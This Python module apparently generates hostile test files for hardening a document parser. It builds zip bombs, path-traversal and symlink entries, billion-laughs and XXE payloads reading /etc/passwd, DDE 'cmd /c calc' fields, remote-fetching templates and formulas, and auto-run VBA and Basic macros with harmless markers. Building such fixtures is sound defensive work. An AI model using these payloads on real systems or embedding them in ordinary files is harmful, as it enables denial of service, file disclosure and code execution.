"""Hostile zips, Word files, workbooks and old office files: each by its name, with its ending and how it is made."""

import struct
from collections.abc import Callable, Mapping
from functools import partial
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile, ZipInfo

from hostile_plain import BAIT, MILLION, SPARSE, Made, near_misses, noise
from office_files import cell, paragraph, row, table, word_file, workbook, zipped
from old_files import old_file
from seeds import seeds

_LAUGHS = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
_DEEP = 100_000
_MACRO = b'\xd0\xcf\x11\xe0 Sub AutoOpen() : Shell "touch ran" : End Sub'


def _raw_word(document: bytes) -> bytes:
    return zipped({"word/document.xml": document})


def _raw_sheet(content: str, strings: str = "", book: str = "") -> bytes:
    return workbook({"表": content}, strings=strings, book=book) if strings else workbook({"表": content}, book=book)


def _rows(cells: list[str], across: int) -> str:
    rows = (cells[start : start + across] for start in range(0, len(cells), across))
    made = ("".join(f'<c t="inlineStr"><is><t>{one}</t></is></c>' for one in each) for each in rows)
    return f"<sheetData>{''.join(f'<row>{each}</row>' for each in made)}</sheetData>"


def _loose(make: Callable[[], bytes]) -> bytes:
    """The archive with nothing packed: what is packed too much is refused before anybody looks into it."""
    stream = BytesIO()
    with ZipFile(BytesIO(make())) as old, ZipFile(stream, "w", ZIP_STORED) as packed:
        for name in old.namelist():
            packed.writestr(name, old.read(name))
    return stream.getvalue()


def _with(content: bytes, **more: bytes | str) -> bytes:
    """An archive with more members, or others in the place of its own; `__` stands for a slash in their names."""
    names = {name.replace("__", "/").replace("_X_", "."): inside for name, inside in more.items()}
    with ZipFile(BytesIO(content)) as old:
        return zipped({**{name: old.read(name) for name in old.namelist()}, **names})


def _fetching_word() -> bytes:
    relation = '<Relationship Id="{0}" Type="{0}" Target="{1}{0}" TargetMode="External"/>'
    kinds = ("attachedTemplate", "aFChunk", "image", "oleObject", "frame", "subDocument")
    relations = "".join(relation.format(kind, BAIT) for kind in kinds)
    document = word_file(
        paragraph("甲") + '<w:altChunk r:id="aFChunk"/><w:subDoc r:id="subDocument"/>'
        '<w:p><w:r><w:instrText>DDEAUTO "cmd" "/c calc"</w:instrText></w:r></w:p>'
        f'<w:p><w:r><w:instrText>INCLUDETEXT "{BAIT}" INCLUDEPICTURE "{BAIT}"</w:instrText></w:r></w:p>'
    )
    relations = f"<Relationships>{relations}</Relationships>"
    return _with(document, word___rels__document_X_xml_X_rels=relations, word__vbaProject_X_bin=_MACRO)


def _fetching_book() -> bytes:
    formulas = (f"[1]Sheet1!A1 WEBSERVICE(&quot;{BAIT}&quot;) HYPERLINK(&quot;{BAIT}&quot;) cmd|'/c calc'!A1").split()
    cells = "".join(f"<c><f>{formula}</f><v>1</v></c><c><f>{formula}</f></c>" for formula in formulas)
    content = workbook({"表": f"<sheetData><row>{cells}</row></sheetData>"})
    link = f'<Relationships><Relationship Id="rId1" Type="x" Target="{BAIT}" TargetMode="External"/></Relationships>'
    return _with(content, xl__externalLinks___rels__externalLink1_X_xml_X_rels=link, xl__vbaProject_X_bin=_MACRO)


def _lying(content: bytes, place: int, value: int) -> bytes:
    """The zip with a number in its last directory entry changed."""
    changed = bytearray(content)
    struct.pack_into("<I", changed, content.rindex(b"PK\x01\x02") + place, value)
    return bytes(changed)


def _overlapping() -> bytes:
    content = zipped({"a.docx": "x" * 9000, "b.docx": "y" * 9000})
    return _lying(content, 42, 0)


def _entries(claimed: int) -> bytes:
    content = b"PK\x03\x04" + (b"PK\x01\x02" + bytes(42)) * MILLION
    return content + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, claimed, claimed, len(content) - 4, 4, 0)


def _one(name: str, content: bytes, *, link: bool = False, method: int = ZIP_DEFLATED) -> bytes:
    entry = ZipInfo(name)
    entry.external_attr = 0o120777 << 16 if link else 0
    stream = BytesIO()
    with ZipFile(stream, "w") as packed:
        packed.writestr(entry, content, method)
    return stream.getvalue()


def _zips_in_zips(depth: int) -> bytes:
    content = b"\0" * MILLION
    for _ in range(depth):
        content = zipped({f"{number}.zip": content for number in range(16)})
    return content


_ZIPS: Mapping[str, Callable[[], bytes | int]] = {
    "16 zips in each of 16 zips": lambda: _zips_in_zips(5),
    "a member of 4 GB": lambda: _one("a.txt", b"\0" * 400_000_000),
    "a million entries": lambda: _entries(0xFFFF),
    "a million entries, said to be one": lambda: _entries(1),
    "sizes that are lies": lambda: _lying(_one("a.html", b"<p>" * 9_000_000), 24, 1000),
    "a packed size that is a lie": lambda: _lying(_one("a.html", b"<p>" * 9_000_000), 20, 0xFFFFFF),
    "overlapping entries": _overlapping,
    "a name that leads elsewhere": lambda: _one("../../etc/报告.txt", seeds("text")[0]),
    "a link to elsewhere": lambda: _one("报告.txt", b"/etc/passwd", link=True),
    "locked": lambda: zipped({"a.docx": "x" * 99}).replace(
        b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01"
    ),
    "46 MB of noise": lambda: noise(46_000_000, b"PK\x03\x04"),
    "46 MB of noise behind a directory": lambda: noise(46_000_000, b"PK\x03\x04") + _one("a.docx", b"x"),
    "40 MB of entries' signs": lambda: b"PK\x03\x04" + b"PK\x01\x02" * 10_000_000,
    "1 GB of nothing": lambda: SPARSE,
}
_WORDS: Mapping[str, Callable[[], bytes | int]] = {
    "a billion laughs": lambda: _raw_word(f'<!DOCTYPE a [<!ENTITY l0 "哈">{_LAUGHS}]><a>&l9;</a>'.encode()),
    "quadratic blow-up": lambda: _raw_word(
        b'<!DOCTYPE a [<!ENTITY b "%s">]><a>%s</a>' % (b"x" * 90_000, b"&b;" * 90_000)
    ),
    "an external entity": lambda: _raw_word(b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    "a document type from elsewhere": lambda: _raw_word(f'<!DOCTYPE a SYSTEM "{BAIT}"><a/>'.encode("utf-16")),
    "15 MB of blanks": lambda: word_file(paragraph(" " * 15_000_000)),
    "a hundred MB of blanks": lambda: word_file(paragraph(" " * 100_000_000)),
    "a hundred thousand elements deep": lambda: word_file("<w:p>" * _DEEP + "</w:p>" * _DEEP),
    "tables eighty deep": lambda: word_file(
        "<w:tbl><w:tr><w:tc>" * 80 + paragraph("甲") + "</w:tc></w:tr></w:tbl>" * 80
    ),
    "a span of a billion": lambda: word_file(table(*[row(cell("1", '<w:gridSpan w:val="999999999"/>'), "2")] * 5000)),
    "merged down without end": lambda: word_file(
        table(*[row(cell("1", "<w:vMerge/>"), cell("2", "<w:vMerge/>"))] * 9000)
    ),
    "30,000 paragraphs": lambda: word_file(paragraph("甲") * 30_000),
    "5,000 near-miss labels": lambda: word_file("".join(map(paragraph, near_misses(5000)))),
    "10,000 rows of near-miss labels": lambda: word_file(table(*(row(one, "1") for one in near_misses(10_000)))),
    "2,000 tables of near-miss labels": lambda: word_file("".join(table(row(one, "1")) for one in near_misses(2000))),
    "a paragraph of five million letters": lambda: word_file(paragraph("公" * 5_000_000)),
    "numbering without end": lambda: word_file(
        paragraph("甲", '<w:numPr><w:ilvl w:val="8"/><w:numId w:val="1"/></w:numPr>') * 5000
    ),
    "a template, a chunk and pictures from elsewhere": _fetching_word,
    "46 MB stored": lambda: _one("word/document.xml", b"<w>" * 15_000_000, method=ZIP_STORED),
}
_BOOKS: Mapping[str, Callable[[], bytes | int]] = {
    "the last cell there is": lambda: _raw_sheet(
        '<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    ),
    "first and last cell, and all merged": lambda: _raw_sheet(
        '<sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
        '</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    ),
    "a column of its own for each row": lambda: _raw_sheet(
        "<sheetData>"
        + "".join(
            f'<row r="{n}"><c r="{chr(65 + n // 676)}{chr(65 + n // 26 % 26)}{chr(65 + n % 26)}{n}"><v>1</v></c></row>'
            for n in range(1, 4999)
        )
        + "</sheetData>"
    ),
    "a million shared texts": lambda: _raw_sheet("<sheetData/>", strings="<si><t>甲</t></si>" * MILLION),
    "140,000 shared texts": lambda: _raw_sheet(_rows(["1"], 1), strings="<si><t>甲</t></si>" * 140_000),
    "one long text in each cell": lambda: _raw_sheet(
        "<sheetData>" + ("<row>" + '<c t="s"><v>0</v></c>' * 20 + "</row>") * 4000 + "</sheetData>",
        strings=f"<si><t>{'公' * 32_000}</t></si>",
    ),
    "formulas that fetch, and macros": _fetching_book,
    "a million formatted cells": lambda: _raw_sheet(
        "<sheetData>" + ('<row r="1">' + '<c r="A1" s="1"/>' * 1000 + "</row>") * 1000 + "</sheetData>"
    ),
    "140,000 cells": lambda: _raw_sheet(
        "<sheetData>" + ("<row>" + "<c><v>1</v></c>" * 70 + "</row>") * 2000 + "</sheetData>"
    ),
    "5,000 near-miss labels": lambda: _raw_sheet(_rows(near_misses(4999), 1)),
    "40,000 near-miss labels, ten a row": lambda: _raw_sheet(_rows(near_misses(40_000), 10)),
    "3,000 merged cells, each over all": lambda: _raw_sheet(
        "<sheetData/><mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 3000 + "</mergeCells>"
    ),
    "a hundred sheets": lambda: workbook({f"表{n}": _rows(["行政许可", "1"] * 500, 2) for n in range(100)}),
    "a thousand sheets": lambda: workbook({f"表{n}": "<sheetData/>" for n in range(1000)}),
    "a number with a million digits": lambda: _raw_sheet(
        f"<sheetData><row><c><v>{'9' * MILLION}</v></c><c><v>1e999999999</v></c></row></sheetData>"
    ),
    "a format of a million signs": lambda: workbook(
        {"表": '<sheetData><row><c s="0"><v>1.5</v></c></row></sheetData>'},
        styles=f'<numFmts><numFmt numFmtId="200" formatCode="{"0.[红]#," * (MILLION // 8)}"/></numFmts>'
        '<cellXfs><xf numFmtId="200"/></cellXfs>',
    ),
}
_FLAT = """<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
 xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"
 xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"
 xmlns:dom="http://www.w3.org/2001/xml-events" xmlns:ooo="http://openoffice.org/2004/office"
 office:version="1.2" office:mimetype="application/vnd.oasis.opendocument.text">
<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard">
<ooo:module ooo:name="Module1"><ooo:source-code>Sub Main
Open "{ran}" For Output As #1
Print #1, "ran"
Close #1
End Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></office:script>
<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load"
 xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/>
</office:event-listeners></office:scripts>
<office:body><office:text><text:p>甲
<draw:frame><draw:image xlink:href="{bait}a.png" xlink:type="simple"/></draw:frame></text:p>
<text:section text:name="S"><text:section-source xlink:href="{bait}b.odt"/></text:section></office:text></office:body>
</office:document>"""
RAN = "/tmp/disclosure-desk-macro-ran"  # noqa: S108 - must not come to be
"""The file that a macro would write."""

_OLD: Mapping[str, Callable[[], bytes | int]] = {
    "a macro that runs when it is opened": lambda: _FLAT.format(ran=RAN, bait=BAIT).encode(),
    "names of macros, and no document": lambda: old_file("WordDocument", "Macros", embedded="VBA"),
    "locked": lambda: old_file("WordDocument", "EncryptedPackage"),
    "nothing but noise": lambda: noise(46_000_000, old_file("Macros")),
    "groups a million deep": lambda: b"{\\rtf1" + b"{" * MILLION + b"x",
}
FILES: Mapping[str, Made] = {
    f"{reader}: {name}": (ending, maker)
    for reader, ending, makers in (
        ("zip", ".zip", _ZIPS),
        ("docx", ".docx", _WORDS),
        ("xlsx", ".xlsx", _BOOKS),
        ("office", ".doc", _OLD),
    )
    for name, maker in makers.items()
} | {
    f"{reader}: {name}, not packed": (ending, partial(_loose, makers[name]))
    for reader, ending, makers, names in (
        (
            "docx",
            ".docx",
            _WORDS,
            (
                "a hundred thousand elements deep",
                "a span of a billion",
                "merged down without end",
                "30,000 paragraphs",
                "a paragraph of five million letters",
            ),
        ),
        (
            "xlsx",
            ".xlsx",
            _BOOKS,
            (
                "a million shared texts",
                "140,000 shared texts",
                "one long text in each cell",
                "a million formatted cells",
                "140,000 cells",
            ),
        ),
    )
    for name in names
}
"""All of them."""
